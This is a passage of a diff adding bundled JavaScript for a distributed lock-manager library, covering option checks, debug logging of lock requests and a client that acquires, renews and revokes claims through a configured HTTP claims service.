+      const { name: name2, options, callback: callback2 } = toRequestArguments(environment.global, arguments);
+      checkEnvironment(environment);
+      const log = openLog2();
+      checkRequest(environment, name2, options);
+      const { ifAvailable, mode, signal, steal } = options;
+      return requestLock(environment, log, { names: [name2], mode, ifAvailable, steal }, signal, createLock, callback2);
+    });
+  },
+  /** @returns {Promise<import('./query.js').LockManagerSnapshot>} */
+  query() {
+    return answer2(this, ({ environment, openLog: openLog2 }) => {
+      checkEnvironment(environment);
+      return openLog2().query().then(snapshotOf);
+    });
+  }
+});
+var createLockManager = (global2, openLog2) => createPlatformObject(LockManager, { environment: createEnvironment(global2), openLog: openLog2 });
+
+// glue/api/manager-options.js
+var refuse = (text2) => {
+  throw new TypeError(text2);
+};
+var wantsClaims = (options) => {
+  if (typeof options !== "object" || options === null) {
+    return refuse(`createLockManager() needs an object with a name, or with the url of a claims service, not ${show(options)}.`);
+  }
+  if (!("url" in options)) return false;
+  if (typeof options.url !== "string" && Object.prototype.toString.call(options.url) !== "[object URL]") {
+    refuse(`The option url must be a string, the address of a claims service, not ${show(options.url)}.`);
+  }
+  for (const option of ["name", "scope", "keepAlive", "directory"]) {
+    if (
+      /** @type {Record<string, unknown>} */
+      options[option] === void 0
+    ) continue;
+    refuse(`The option ${option} cannot be combined with url: the locks of a claims service belong to all who use its address.`);
+  }
+  return true;
+};
+var checkDebug = (debug2) => {
+  if (debug2 === void 0 || typeof debug2 === "boolean" || typeof debug2 === "function") return;
+  refuse(`The option debug must be true, false or a function that is given each line, not ${show(debug2)}.`);
+};
+var toOwnManager = ({ name, scope, keepAlive, directory, debug: debug2 }, isNode3) => {
+  checkDebug(debug2);
+  if (scope !== void 0 && scope !== "process" && scope !== "host") {
+    refuse(`The option scope must be 'process' or 'host', not ${show(scope)}.`);
+  }
+  if (scope === "host" && !isNode3) {
+    refuse("The option scope cannot be 'host' in a browser: there a manager reaches all contexts of the origin, and no other.");
+  }
+  if (directory !== void 0 && scope !== "host") refuse("The option directory needs scope: 'host'.");
+  if (directory !== void 0 && (typeof directory !== "string" || directory === "")) {
+    refuse(`The option directory must be a path, not ${show(directory)}.`);
+  }
+  if (keepAlive !== void 0 && typeof keepAlive !== "boolean") {
+    refuse(`The option keepAlive must be true or false, not ${show(keepAlive)}.`);
+  }
+  const options = { scope, keepAlive, directory };
+  if (name === void 0 && keepAlive !== void 0 && scope === void 0) return { name: "", debug: debug2, options };
+  if (name === void 0 || name === "") {
+    refuse(`createLockManager() needs a name that is not empty: { name: 'my-app' }. ${name === "" ? "It is empty." : "There is none."}`);
+  }
+  if (typeof name !== "string" && typeof name !== "number") refuse(`The option name must be a string, not ${show(name)}.`);
+  return { name: toDOMString(name), debug: debug2, options };
+};
+var checkInstallOptions = (options) => {
+  if (options === void 0) return;
+  if (Object(options) !== options) refuse(`install() takes its options as an object, not ${show(options)}.`);
+  checkDebug(
+    /** @type {{debug?: unknown}} */
+    options.debug
+  );
+};
+
+// glue/api/debug.js
+var MOST_BLOCKERS = 3;
+var LONG_ID = 20;
+var shorten = (client) => client.length > LONG_ID ? client.slice(0, 8) : client;
+var lockOf = ({ mode, names }) => `${mode} ${names.map(show).join(" + ")}`;
+var titleOf = (description) => {
+  const { ifAvailable, steal, wait, hold: hold2 } = description;
+  const limits = [
+    ifAvailable && "ifAvailable",
+    steal && "steal",
+    wait !== void 0 && `timeout ${wait} ms`,
+    hold2 !== void 0 && `lease ${hold2} ms`
+  ];
+  const given = limits.filter(Boolean);
+  return lockOf(description) + (given.length ? ` (${given.join(", ")})` : "");
+};
+var blockersOf2 = ({ held, pending }, { client, number, mode, names }) => {
+  const place = pending.findIndex((each) => each.client === client && each.number === number);
+  return [...held, ...pending.slice(0, Math.max(0, place))].filter((each) => (mode === "exclusive" || each.mode === "exclusive") && each.names.some((name) => names.includes(name)));
+};
+var createPrintingLog = (log, print, { label, now: now3, observation: observation2, hasLeader }) => {
+  const open3 = /* @__PURE__ */ new Set();
+  let count = 0;
+  let leader = "";
+  const say = (text2) => print(
+    `lockkeeper${label && `[${label}]`} ${new Date(now3()).toISOString().slice(11, 23)} ${shorten(log.clientId()) || "(new)"} ${text2}`
+  );
+  const nameOf = (client) => client === log.clientId() ? "this context" : shorten(client);
+  const ageOf = ({ since }) => `${Math.max(0, Math.round(now3() - since))} ms`;
+  const find2 = (number) => [...open3].find(({ request }) => !request || request.number === number);
+  const sayMembers = () => {
+    if (!observation2) return "";
+    const { members } = observation2.state();
+    const eldest = members.length && hasLeader ? members[0].client : "";
+    const leads = eldest && eldest !== leader ? `; the leader is ${nameOf(eldest)}` : "";
+    leader = eldest;
+    return `${members.length} ${members.length === 1 ? "member" : "members"}${leads}`;
+  };
+  const sayWaiting = (operation) => {
+    const own = find2(operation.number);
+    if (!own || !observation2) return;
+    const blockers = blockersOf2(observation2.state(), operation);
+    const named = blockers.slice(0, MOST_BLOCKERS).map((each) => `${nameOf(each.client)} ${each.fence ? "holds" : "waits for"} ${lockOf(each)}`);
+    const more = blockers.length > MOST_BLOCKERS ? ` and ${blockers.length - MOST_BLOCKERS} more` : "";
+    say(`${own.title}: blocked, ${named.join(", ")}${more}`);
+  };
+  const observed = (operation, events = []) => {
+    if (!operation) {
+      if (observation2 && observation2.state().members.length) say(`has the state: ${sayMembers()}`);
+      return;
+    }
+    const { type } = operation;
+    if (type === "tick") return;
+    if (type === "join") say(`${nameOf(operation.client)} joined: ${sayMembers()}`);
+    else if (type === "gone") say(`${nameOf(operation.client)} is gone: it ended or left; ${sayMembers()}`);
+    for (const { type: event, client, number } of events) {
+      const own = event === "broken" && client === log.clientId() && find2(number);
+      if (own) own.thief = `${type === "request" ? "stolen" : "broken by forceRelease()"} by ${nameOf(operation.client)}`;
+    }
+    if (type !== "request" || operation.client !== log.clientId()) return;
+    if (!events.some(({ client, number }) => client === operation.client && number === operation.number)) sayWaiting(operation);
+  };
+  if (observation2) observation2.listen(observed);
+  const sayOutcome = (own, outcome, fence, reason) => {
+    const { title, held, thief } = own;
+    const after = `after ${ageOf(own)}`;
+    if (outcome === "granted") {
+      say(`${title}: granted ${after}${fence ? `; fence ${fence}` : ""}`);
+      own.held = true;
+      own.since = now3();
+      return;
+    }
+    open3.delete(own);
+    if (outcome === "unavailable") say(`${title}: not available`);
+    else if (outcome === "expired") say(`${title}: ${held ? `lost ${after}, its lease is over` : `timed out ${after}`}`);
+    else {
+      const why = thief || reason && reason.message || (outcome === "broken" ? "stolen, or broken by forceRelease()" : "this context has left, or the others took it for dead");
+      say(`${title}: lost ${after}, ${why}`);
+    }
+  };
+  const watched = (operation, promise) => {
+    promise.catch((error) => say(`${operation}() failed: ${error}`));
+    return promise;
+  };
+  return {
+    ...log,
+    request(description, listener) {
+      const own = { title: `#${++count} ${titleOf(description)}`, request: void 0, since: now3(), held: false, thief: "" };
+      open3.add(own);
+      say(`${own.title}: requested`);
+      try {
+        own.request = log.request(description, (outcome, fence, reason) => {
+          sayOutcome(own, outcome, fence, reason);
+          listener(outcome, fence, reason);
+        });
+      } catch (error) {
+        open3.delete(own);
+        say(`${own.title}: failed, ${error}`);
+        throw error;
+      }
+      return own.request;
+    },
+    drop(request) {
+      for (const own of open3) {
+        if (own.request !== request) continue;
+        open3.delete(own);
+        say(`${own.title}: ${own.held ? "released" : "aborted"} after ${ageOf(own)}`);
+      }
+      log.drop(request);
+    },
+    query: () => watched("query", log.query()),
+    inspect: () => watched("inspect", log.inspect()),
+    forceRelease(names) {
+      say(`forceRelease ${names.map(show).join(" + ")}`);
+      return watched("forceRelease", log.forceRelease(names));
+    },
+    leave() {
+      say("leaves");
+      log.leave();
+    }
+  };
+};
+var withDebug = (openLog2, options) => {
+  let opened;
+  return () => {
+    if (opened) return opened;
+    const print = options.choosePrinter();
+    opened = print ? createPrintingLog(openLog2(), print, options) : openLog2();
+    return opened;
+  };
+};
+
+// glue/api/own-manager.js
+var answerOwn = (manager, operation) => answer2(manager, ({ own }) => {
+  if (!own) throw new TypeError(illegalInvocation("LockManager of createLockManager()"));
+  return operation(own);
+});
+var createPrototype = () => defineMembers(Object.create(LockManager.prototype), {
+  inspect() {
+    return answerOwn(this, (own) => own.inspect());
+  },
+  close() {
+    return answerOwn(this, (own) => own.close());
+  },
+  ...Symbol.asyncDispose ? {
+    [Symbol.asyncDispose]() {
+      return answerOwn(this, (own) => own.close());
+    }
+  } : {}
+});
+var prototype;
+var makeOwn = (manager, own) => {
+  prototype = prototype || createPrototype();
+  stateOf(LockManager, manager).own = own;
+  return Object.setPrototypeOf(manager, prototype);
+};
+
+// glue/claims/service.js
+var WAIT = 25;
+var PAGE = 1e3;
+var PAUSE = 500;
+var createService = (global2, { url, ttl = 30, headers = {}, patience = 60 }, clientId, randomId3) => {
+  const address = String(url);
+  const base = new global2.URL("v1/", address.endsWith("/") ? address : `${address}/`);
+  let warned = false;
+  let stopped = false;
+  const enders = /* @__PURE__ */ new Set();
+  const onEnd = (signal, listener) => {
+    if (stopped || signal && signal.aborted) {
+      listener();
+      return () => {
+      };
+    }
+    enders.add(listener);
+    if (signal) signal.addEventListener("abort", listener);
+    return () => {
+      enders.delete(listener);
+      if (signal) signal.removeEventListener("abort", listener);
+    };
+  };
+  const pause = (milliseconds, signal) => new Promise((resolve3) => {
+    let stopListening = () => {
+    };
+    const finish = () => {
+      global2.clearTimeout(timer2);
+      stopListening();
+      resolve3();
+    };
+    const timer2 = global2.setTimeout(finish, milliseconds);
+    stopListening = onEnd(signal, finish);
+  });
+  const ask = async (to, { body, headers: more, signal, ...how }) => {
+    const own = typeof headers === "function" ? await headers() : headers;
+    checkHeaders(global2, own);
+    const asked = global2.performance.now();
+    const ending2 = new global2.AbortController();
+    const stopListening = onEnd(signal, () => ending2.abort());
+    try {
+      const response = await global2.fetch(new global2.URL(to, base), {
+        ...how,
+        signal: ending2.signal,
+        headers: { ...own, ...body && { "content-type": "application/json" }, ...more },
+        body: body && JSON.stringify(body)
+      });
+      return { status: response.status, text: await response.text(), asked };
+    } finally {
+      stopListening();
+    }
+  };
+  const insist = async (to, how, isWanted = () => true) => {
+    const began = global2.performance.now();
+    const isOver = () => stopped || how.signal && how.signal.aborted;
+    for (; ; ) {
+      let reason;
+      try {
+        const { status, text: text2, asked } = await ask(to, how);
+        if (status < 500) {
+          warned = false;
+          return { status, body: parse2(status, text2), asked };
+        }
+        reason = `it answers ${status}`;
+      } catch (error) {
+        const failure = (
+          /** @type {Error & {cause?: Error}} */
+          error
+        );
+        if (isOver() || failure.name !== "TypeError") throw error;
+        reason = failure.cause && failure.cause.message || failure.message;
+      }
+      const longest = isWanted() ? patience : Math.min(patience, ttl);
+      if (global2.performance.now() + PAUSE > began + longest * 1e3) {
+        const text2 = `The claims service at ${address} could not be reached for ${longest} s: ${reason}.`;
+        throw new global2.DOMException(text2, "NetworkError");
+      }
+      if (!warned) global2.console.warn(`lockkeeper: the claims service at ${address} cannot be reached (${reason}); it is asked again.`);
+      warned = true;
+      await pause(PAUSE, how.signal);
+      if (isOver()) throw new global2.DOMException("Nobody waits for the answer any more.", "AbortError");
+    }
+  };
+  const parse2 = (status, text2) => {
+    if (text2 === "") return void 0;
+    try {
+      return JSON.parse(text2);
+    } catch {
+      throw new Error(`${address} is no claims service: it answered ${status} with ${JSON.stringify(text2.slice(0, 80))}.`);
+    }
+  };
+  const idOf = (body) => {
+    const [, id] = /\/v1\/\w+\/(\d+)\/$/.exec(body && body.url) || [];
+    if (!id) throw new Error(`${address} is no claims service: it answered ${JSON.stringify(body)}.`);
+    return id;
+  };
+  const read = (body) => {
+    return { ...body, id: idOf(body) };
+  };
+  const refusal = ({ status, body }) => new Error(`The claims service at ${address} answered ${status}: ${JSON.stringify(body)}`);
+  return {
+    ttl,
+    pause,
+    /** Nothing is asked any more. */
+    stop() {
+      stopped = true;
+      for (const end of enders) end();
+    },
+    /** A session. @param {() => boolean} isWanted */
+    async begin(isWanted) {
+      const answer3 = await insist("sessions/", { method: "POST", body: { ttl } }, isWanted);
+      if (answer3.status !== 201) throw refusal(answer3);
+      return { id: idOf(answer3.body), asked: answer3.asked };
+    },
+    /** @param {string} id of a session @param {AbortSignal} signal */
+    async renew(id, signal) {
+      const { status, body, asked } = await insist(`sessions/${id}/`, { method: "PATCH", body: { ttl }, signal });
+      const urls = status === 200 ? body.active : [];
+      return { status, asked, active: new Set(urls.map((url2) => idOf({ url: url2 }))) };
+    },
+    /**
+     * @param {string | string[]} resource
+     * @param {string} mode
+     * @param {string} session
+     * @param {() => boolean} isWanted
+     * @returns {Promise<Claim | undefined>} nothing where the session is over
+     */
+    async make(resource, mode, session, isWanted) {
+      const answer3 = await insist("claims/", {
+        method: "POST",
+        // What goes with it is for query(); the key makes asking again harmless.
+        body: { resource, session, mode, user_data: { clientId } },
+        headers: { "idempotency-key": randomId3() }
+      }, isWanted);
+      if (answer3.status === 400 && answer3.body.session) return void 0;
+      if (answer3.status !== 201 && answer3.status !== 202) throw refusal(answer3);
+      return read(answer3.body);
+    },
+    /**
+     * The claim, as soon as it is not waiting any more.
+     * @param {string} id
+     * @param {AbortSignal} signal
+     */
+    async whenNotWaiting(id, signal) {
+      for (; ; ) {
+        const answer3 = await insist(`claims/${id}/?wait=${WAIT}&while=waiting`, { signal });
+        if (answer3.status !== 200) throw refusal(answer3);
+        const claim = read(answer3.body);
+        if (claim.status !== "waiting") return claim;
+      }
+    },
+    /** @param {string} id @param {'released' | 'aborted' | 'withdrawn'} status */
+    finish: (id, status) => insist(`claims/${id}/`, { method: "PATCH", body: { status } }, () => false),
+    /** Ends a claim, another's too, where the service allows it. @param {string} id */
+    async revoke(id) {
+      const answer3 = await insist(`claims/${id}/`, { method: "PATCH", body: { status: "revoked" } });
+      if (answer3.status === 204 || answer3.status === 400 && (await insist(`claims/${id}/`, {})).body.status !== "active") return;
+      throw answer3.status === 403 ? new global2.DOMException(
+        `The claims service at ${address} does not let you revoke this claim.`,
+        "NotAllowedError"
+      ) : refusal(answer3);
+    },
+    /** @param {'active' | 'waiting'} status */
+    async list(status) {
+      const found = [];
+      for (let offset = 0; ; offset += PAGE) {
+        const answer3 = await insist(`claims/?status=${status}&limit=${PAGE}&offset=${offset}`, {});
+        if (answer3.status !== 200 || !Array.isArray(answer3.body)) throw refusal(answer3);
+        for (const each of answer3.body) found.push(read(each));
+        if (answer3.body.length < PAGE) return found;
+      }
+    }
+  };
+};
+var checkHeaders = (global2, headers) => {
+  for (const [name, value] of Object.entries(headers || {})) {
+    try {
+      new global2.Headers().append(name, value);
+    } catch {
+      throw new Error(`The option headers: ${JSON.stringify(name)} or its value has characters that no header can have.`);
+    }
+  }
+};
+var clientOf = ({ user_data: data }, otherwise) => data && data.clientId || otherwise;
+
+// glue/claims/session.js
+var createSessions = (global2, service) => {
+  const whole = service.ttl * 1e3;
+  let current;
+  let beginning;
+  const now3 = () => global2.performance.now();
+  let waiting = 0;
+  const begin = async () => {
+    const { id, asked } = await service.begin(() => waiting > 0);
+    current = { id, end: asked + whole, users: 0, over: void 0, held: /* @__PURE__ */ new Map(), rest: void 0 };
+    return current;
+  };
+  const end = (session, reason) => {
+    session.over = reason;
+    if (current === session) current = void 0;
+    for (const lose of session.held.values()) lose(reason);
+  };
+  const keep = async (session) => {
+    while (session.users > 0 && !session.over) {
+      session.rest = new global2.AbortController();
+      await service.pause(Math.max(0, session.end - now3() - whole * 2 / 3), session.rest.signal);
+      if (session.users > 0) await renew(session);
+    }
+    session.rest = void 0;
+  };
+  const renew = async (session) => {
+    const held = [...session.held];
+    const late = new global2.AbortController();
+    const timer2 = global2.setTimeout(() => late.abort(), session.end - now3() - whole / 10);
+    try {
+      const { status, active, asked } = await service.renew(session.id, late.signal);
+      if (status !== 200) return end(session, `its session has ended (${status})`);
+      session.end = asked + whole;
+      for (const [id, lose] of held) if (!active.has(id)) lose("the claim has ended");
+    } catch (error) {
+      end(session, late.signal.aborted ? "the service cannot be reached" : String(error));
+    } finally {
+      global2.clearTimeout(timer2);
+    }
+    return void 0;
+  };
+  return {
+    end,
+    /**
+     * @param {AbortSignal} signal aborts where it is not wanted any more
+     * @returns {Promise<Session>} one that is renewed until leave()
+     */
+    async enter(signal) {
+      if (current && current.users === 0 && current.end - now3() < whole / 3) current = void 0;
+      let session = current;
+      if (!session) {
+        beginning = beginning || begin().finally(() => {
+          beginning = void 0;
+        });
+        waiting++;
+        const give = () => void waiting--;
+        signal.addEventListener("abort", give);
+        try {
+          session = await beginning;
+        } finally {
+          signal.removeEventListener("abort", give);
+          if (!signal.aborted) give();
+        }
+      }
+      session.users += 1;
+      if (!session.rest) keep(session);
+      return session;
+    },
+    /** @param {Session} session */
+    leave(session) {
+      session.users -= 1;
+      if (session.users === 0 && session.rest) session.rest.abort();
+    },
+    /**
+     * Resolves when the claim is lost, with the reason, or with nothing when [signal] fires.
+     * @param {Session} session
+     * @param {string} id
+     * @param {AbortSignal} signal
+     * @returns {Promise<string | undefined>}
+     */
+    hold: (session, id, signal) => new Promise((resolve3) => {
+      const finish = (reason) => {
+        session.held.delete(id);
+        signal.removeEventListener("abort", release);
+        resolve3(reason);
+      };
+      const release = () => finish(void 0);
+      session.held.set(id, finish);
+      signal.addEventListener("abort", release);
+      if (signal.aborted) release();
+    })
+  };
+};
+
+// glue/claims/log.js
+var EXPIRED = "expired";
+var LONGEST_REST = 1e3;
+var createClaimsLog = (global2, options, randomId3) => {
+  const clientId = options.clientId === void 0 ? randomId3() : String(options.clientId);
+  const service = createService(global2, options, clientId, randomId3);
+  const sessions = createSessions(global2, service);
+  const open3 = /* @__PURE__ */ new Set();
+  const exception = (text2, name) => new global2.DOMException(text2, name);
+  const now3 = () => global2.performance.now();
+  const onTime = (time, signal, listener) => {
+    const timer2 = time < Infinity ? global2.setTimeout(listener, Math.max(0, time - now3())) : void 0;
+    signal.addEventListener("abort", listener);
+    return () => {
+      if (timer2 !== void 0) global2.clearTimeout(timer2);
+      signal.removeEventListener("abort", listener);
+    };
+  };
+  const run2 = async (request, description, listener) => {
+    const { signal } = request.end;
+    const latest = now3() + (description.wait === void 0 ? Infinity : description.wait);
+    while (!signal.aborted) {
+      const session = await sessions.enter(signal);
+      try {
+        if (await attempt(request, session, description, latest, listener)) return;
+      } finally {
+        sessions.leave(session);
+      }
+    }
+  };
+  const whenNotWaiting = async (claim, latest, signal) => {
+    const patience = new global2.AbortController();
+    const stopWaiting = onTime(latest, signal, () => patience.abort());
+    try {
+      return latest > now3() ? await service.whenNotWaiting(claim.id, patience.signal) : claim;
+    } catch (error) {
+      if (patience.signal.aborted) return claim;
+      throw error;
+    } finally {
+      stopWaiting();
+    }
+  };
+  const attempt = async ({ end: { signal }, loss }, session, { names, mode, ifAvailable, hold: hold2 = Infinity }, latest, listener) => {
+    if (signal.aborted) return true;
+    let claim = await service.make(names.length === 1 ? names[0] : names, mode, session.id, () => !signal.aborted);
+    if (!claim) {
+      sessions.end(session, "its session has ended");
+      return false;
+    }
+    const { id } = claim;
+    const finish = (status) => service.finish(id, status);
+    if (claim.status === "waiting" && ifAvailable && !signal.aborted) {
+      await finish("withdrawn");
+      listener("unavailable", 0);
+      return true;
+    }
+    try {
+      if (claim.status === "waiting" && !signal.aborted) claim = await whenNotWaiting(claim, latest, signal);
+      if (signal.aborted) throw signal;
+      if (claim.status === "waiting") {
+        await finish("aborted");
+        listener(EXPIRED, 0);
+        return true;
+      }
+      if (session.over || claim.status === "expired") {
+        finish("aborted").catch(() => {
+        });
+        return false;
+      }
+      if (claim.status !== "active") throw exception(`The lock was not granted: the claim is ${claim.status}.`, "AbortError");
+    } catch (error) {
+      const finished = finish("aborted").catch(() => {
+      });
+      if (!signal.aborted) throw error;
+      await finished;
+      return true;
+    }
+    const held = new global2.AbortController();
+    const stopLease = onTime(now3() + hold2, signal, () => held.abort());
+    const losing = sessions.hold(session, id, held.signal);
+    listener(
+      "granted",
+      /** @type {number} */
+      claim.fence
+    );
+    const reason = await losing;
+    stopLease();
+    if (reason !== void 0) throw exception(`The lock was lost: ${reason}.`, "AbortError");
+    if (!signal.aborted) {
+      const [name, text2] = ending(EXPIRED, names, true);
+      loss.abort(exception(text2, name));
+      listener(EXPIRED, 0);
+    }
+    await finish("released");
+    return true;
+  };
+  const log = {
+    clientId: () => clientId,
+    join() {
+    },
+    /** @param {RequestDescription} description @param {import('../log/types.js').RequestListener} listener */
+    request(description, listener) {
+      if (description.steal) {
+        throw exception("A claim cannot be stolen. Someone who may revoke claims can end it at the service.", "NotSupportedError");
+      }
+      const request = {
+        loss: new global2.AbortController(),
+        end: new global2.AbortController(),
+        released: Promise.resolve(),
+        lose(error) {
+          if (request.end.signal.aborted) return;
+          request.end.abort();
+          request.loss.abort(error);
+          listener(
+            "lost",
+            0,
+            /** @type {Error} */
+            error
+          );
+        }
+      };
+      open3.add(request);
+      request.released = Promise.resolve().then(() => run2(request, description, listener)).catch(request.lose).finally(() => open3.delete(request));
+      return request;
+    },
+    /** @param {ClaimRequest} request */
+    drop: (request) => request.end.abort(),
+    /** @param {ClaimRequest} request resolves when it is over at the service, and after a second at the latest */
+    rest({ released }) {
+      const over = new global2.AbortController();
+      return Promise.race([released.finally(() => over.abort()), service.pause(LONGEST_REST, over.signal)]);
+    },
+    async query() {
+      const requests = async (status) => (await service.list(status)).map((claim) => ({
+        client: clientOf(claim, ""),
+        mode: claim.mode,
+        names: [claim.resource].flat()
+      }));
+      return { held: await requests("active"), pending: await requests("waiting") };
+    },
+    /** Not in one step: a request that waits may be granted before the next claim is revoked. @param {string[]} names */
+    async forceRelease(names) {
+      for (const { id, resource } of await service.list("active")) {
+        if (!names.some((name) => [resource].flat().includes(name))) continue;
+        await service.revoke(id);
+      }
+    },
+    async inspect() {
+      const requests = async (status) => (await service.list(status)).map((claim) => ({
+        client: clientOf(claim, `claim ${claim.id}`),
+        number: Number(claim.id),
+        mode: claim.mode,
+        names: [claim.resource].flat(),
+        fence: claim.fence || 0,
+        since: Date.parse(claim.status_history[claim.status_history.length - 1].timestamp)
+      }));
+      const [held, pending] = [await requests("active"), await requests("waiting")];
+      const clients = new Set([...held, ...pending].sort((one, other) => one.number - other.number).map(({ client }) => client));
+      return { client: clientId, leader: "", log: "", count: 0, alone: false, state: {
+        members: [...clients].map((client) => ({ client })),
+        held,
+        pending
+      } };
+    },
+    leave() {
+      for (const request of open3) request.lose(exception("The manager was closed.", "AbortError"));
+    }
+  };
+  return { log, open: open3, stop: service.stop };
+};
+
+// glue/claims/manager.js
+var define = (object, members) => Object.defineProperties(object, Object.fromEntries(Object.entries(members).map(([name, value]) => [name, { value, configurable: true, writable: typeof value === "function" }])));
+var check3 = ({ url, ttl, headers, patience, debug: debug2 }, global2) => {
+  checkDebug(debug2);
+  const refuse2 = (text2) => {
+    throw new TypeError(text2);
+  };
+  try {
+    if (!/^https?:$/.test(new global2.URL(String(url)).protocol)) throw url;
+  } catch {
+    refuse2(`The option url must be the http or https address of a claims service; ${String(url)} is none.`);
+  }
+  if (ttl !== void 0 && !(ttl > 0 && ttl <= 1e9)) refuse2(`The option ttl must be a number of seconds above 0; ${String(ttl)} is none.`);
+  if (patience !== void 0 && !(patience >= 0)) {
+    refuse2(`The option patience must be a number of seconds, or Infinity; ${String(patience)} is none.`);
+  }
+  if (headers !== void 0 && typeof headers !== "function" && Object(headers) !== headers) {
+    refuse2("The option headers must be an object of headers, or a function that gives one.");
+  }
+  try {
+    if (typeof headers === "object") checkHeaders(global2, headers);
+  } catch (error) {
+    refuse2(
+      /** @type {Error} */
+      error.message
+    );
+  }
+};
+var createClaimsLockManager = (global2, options, randomId3, choosePrinter) => {
+  check3(options, global2);
+  const { log, open: open3, stop } = createClaimsLog(global2, options, randomId3);
+  const openInner = (
+    /** @type {() => ClaimsLog} */
+    withDebug(
+      () => (
+        /** @type {ClaimsLog} */
+        /** @type {unknown} */
+        log
+      ),
+      { label: String(options.url), now: () => Date.now(), choosePrinter }
+    )
+  );
+  let closed = false;
+  const openLog2 = () => {
+    if (closed) throw new global2.DOMException("This lock manager is closed.", "InvalidStateError");
+    return openInner();
+  };
+  let current;
+  const observe = () => {
+    const inner = openLog2();
+    return {
+      ...inner,
+      /** @type {ClaimsLog['request']} */
+      request(description, listener) {
+        const request = inner.request(description, (outcome, fence, reason) => {
+          current = { request, fence };
+          listener(outcome, fence, reason);
+        });
+        current = { request, fence: 0 };
+        return request;
+      }
+    };
+  };
+  const manager = makeOwn(createLockManager(global2, observe), {
+    inspect: async () => {
+      const inspection = await openLog2().inspect();
+      const { held, pending } = inspection.state;
+      const since = new Map(
+        /** @type {DatedRequest[]} */
+        [...held, ...pending].map((request) => [request.number, request.since])
+      );
+      return reportOf(inspection, (client, number) => (
+        /** @type {number} */
+        since.get(number)
+      ));
+    },
+    close() {
+      closed = true;
+      log.leave();
+      return Promise.all([...open3].map(log.rest)).then(stop);
+    }
+  });
+  define(manager, {
+    /** @param {unknown} name @param {unknown} callback */
+    // eslint-disable-next-line no-unused-vars -- the parameters are there to be counted
+    request(name, callback) {
+      const parameters = [...arguments];
+      const place = parameters.length > 2 ? 2 : 1;
+      const called = parameters[place];
+      if (typeof called === "function") {
+        parameters[place] = (lock) => {
+          const { request, fence } = (
+            /** @type {NonNullable<typeof current>} */
+            current
+          );
+          return called(lock && define(lock, { fence, signal: request.loss.signal }));
+        };
+      }
+      current = void 0;
+      const result = LockManager.prototype.request.apply(
+        this,
+        /** @type {[]} */
+        /** @type {unknown} */
+        parameters
+      );
+      const made = (
+        /** @type {{request: ClaimRequest} | undefined} */
+        /** @type {unknown} */
+        current
+      );
+      return made ? result.finally(() => log.rest(made.request)) : result;
+    }
+  });
+  return { manager, openLog: openLog2 };
+};
+
+// glue/entries/debugging.js
+var printerFor = (option) => {
+  if (typeof option === "function") return (line) => void Promise.resolve(line).then(option);
+  return (option === void 0 ? isOn(debugSetting()) : option) ? printLine : void 0;
+};
+var isOn = (setting) => !["", "0", "false", "undefined", "null"].includes(String(setting));
+
+// glue/entries/realm.js
+var isNode2 = typeof self === "undefined";
+if (!IS_PACKAGE && isNode2) throw new TypeError("This script is not for Node: import lockkeeper/auto");
+var global = IS_PACKAGE && isNode2 ? globalThis : self;
+
+// glue/entries/place.js
+var startLog = createLog;
+var logOpener = (name, options, watch3) => {
+  let log;
+  return () => log = log || startLog(name, options, watch3);
+};
+
+// glue/entries/claims.js
+var createClaimsLockManager2 = (options) => createClaimsLockManager(global, options, randomId2, () => printerFor(options.debug));
+
+// glue/api/closing.js
+var createClosable = (openInner, environment) => {
+  let outer;
+  let closed;
+  const waiting = /* @__PURE__ */ new Map();
+  const held = /* @__PURE__ */ new Set();
+  let answersDue = 0;
+  let finish = () => {
+  };
+  const finishWhenIdle = () => {
+    if (closed && !waiting.size && !held.size && !answersDue) finish();
+  };
+  const awaited = (answer3) => {
+    answersDue++;
+    const arrived = () => {
+      answersDue--;
+      finishWhenIdle();
+    };
+    answer3.then(arrived, arrived);
+    return answer3;
+  };
+  const watch3 = (log) => ({
+    ...log,
+    request(description, listener) {
+      const request = log.request(description, (outcome, fence, reason) => {
+        waiting.delete(request);
+        if (outcome === "granted") held.add(request);
+        else held.delete(request);
+        listener(outcome, fence, reason);
+        finishWhenIdle();
+      });
+      waiting.set(request, () => listener("closed", 0));
+      return request;
+    },
+    drop(request) {
+      waiting.delete(request);
+      held.delete(request);
+      log.drop(request);
+      finishWhenIdle();
+    },
+    query: () => awaited(log.query()),
+    inspect: () => awaited(log.inspect()),
+    forceRelease: (names) => awaited(log.forceRelease(names))
+  });
+  return {
+    openLog() {
+      if (closed) throw createException(environment, "InvalidStateError", "This lock manager is closed.");
+      outer = outer || watch3(openInner());
+      return outer;
+    },
+    close() {
+      closed = closed || new Promise((resolve3) => {
+        finish = () => {
+          finish = () => {
+          };
+          if (outer) outer.leave();
+          resolve3();
+        };
+        void Promise.resolve().then(finishWhenIdle);
+      });
+      const { drop } = outer || { drop() {
+      } };
+      for (const [request, end] of [...waiting]) {
+        drop(request);
+        end();
+      }
+      return closed;
+    }
+  };
+};
+
+// glue/api/observation.js
+var createObservation = (now3) => {
+  let current;
+  let replacedAt = 0;
+  const origin = now3();
+  const times = /* @__PURE__ */ new Map();
+  const listeners = /* @__PURE__ */ new Set();
+  const timesOf = (client) => {
+    let known = times.get(client);
+    if (!known) times.set(client, known = /* @__PURE__ */ new Map());
+    return known;
+  };
+  const applied = (operation, events) => {
+    let time = -1;
+    const stamp = (client, number) => {
+      if (time < 0) time = Math.floor(now3() - origin);
+      timesOf(client).set(number, time);
+    };
+    for (const { type, client, number } of events) {
+      if (type === "granted") stamp(client, number);
+      else timesOf(client).delete(number);
+    }
+    if (operation.type === "request" && !events.some(({ client, number }) => number === operation.number && client === operation.client)) {
+      stamp(operation.client, operation.number);
+    }
+    if (operation.type === "gone") times.delete(operation.client);
+    if (listeners.size) listeners.forEach((listener) => listener(operation, events));
+  };
+  const replaced = () => {
+    times.clear();
+    replacedAt = now3();
+    for (const listener of listeners) listener();
+  };
+  const wrap = (core) => Object.assign(
+    {},
+    core,
+    /** @type {Partial<Core>} */
+    {
+      apply(operation) {
+        current = core;
+        const events = core.apply(operation);
+        applied(operation, events);
+        return events;
+      },
+      restore(bytes) {
+        core.restore(bytes);
+        current = core;
+        replaced();
+      },
+      reset(fence) {
+        core.reset(fence);
+        current = core;
+        replaced();
+      }
+    }
+  );
+  return {
+    watch: (open3) => (...given) => {
+      const core = open3(...given);
+      return (
+        /** @type {typeof core} */
+        "then" in core ? core.then(wrap) : wrap(core)
+      );
+    },
+    state: () => current.state(),
+    sinceOf(client, number) {
+      const known = times.get(client);
+      const time = known && known.get(number);
+      return time === void 0 ? replacedAt : origin + time;
+    },
+    listen(listener) {
+      listeners.add(listener);
